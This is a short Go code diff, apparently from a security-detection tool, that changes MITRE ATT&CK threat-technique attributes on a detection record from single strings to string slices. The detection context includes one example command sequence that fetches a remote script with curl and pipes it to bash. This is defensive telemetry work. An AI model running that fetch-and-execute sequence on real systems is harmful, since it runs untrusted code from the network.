@@ -60,7 +60,8 @@ func ruleAttrs() []attribute.KeyValue {
 		semconv.SecurityRuleReferenceKey.String("https://attack.mitre.org/techniques/T1059/004/"),
 		semconv.SecurityRuleVersionKey.String("1"), semconv.ThreatFrameworkKey.String("MITRE ATT&CK"),
 		semconv.ThreatTacticIDKey.String("TA0002"), semconv.ThreatTacticNameKey.String("Execution"),
-		semconv.ThreatTechniqueIDKey.String("T1059"), semconv.ThreatTechniqueNameKey.String("Command and Scripting Interpreter"),
+		semconv.ThreatTechniqueIDKey.StringSlice([]string{"T1059"}),
+		semconv.ThreatTechniqueNameKey.StringSlice([]string{"Command and Scripting Interpreter"}),
 		semconv.VigilRecipeImportanceKey.String("high"),
 	}
 }
@@ -190,8 +191,8 @@ func detectionRecord() log.Record {
 func detectionContext() []attribute.KeyValue {
 	return []attribute.KeyValue{
 		semconv.VigilSequenceStepsKey.StringSlice([]string{"curl -s https://example.com/x.sh", "bash"}),
-		semconv.ThreatTechniqueSubtechniqueIDKey.String("T1059.004"),
-		semconv.ThreatTechniqueSubtechniqueNameKey.String("Unix Shell"),
+		semconv.ThreatTechniqueSubtechniqueIDKey.StringSlice([]string{"T1059.004"}),
+		semconv.ThreatTechniqueSubtechniqueNameKey.StringSlice([]string{"Unix Shell"}),
 	}
 }
 
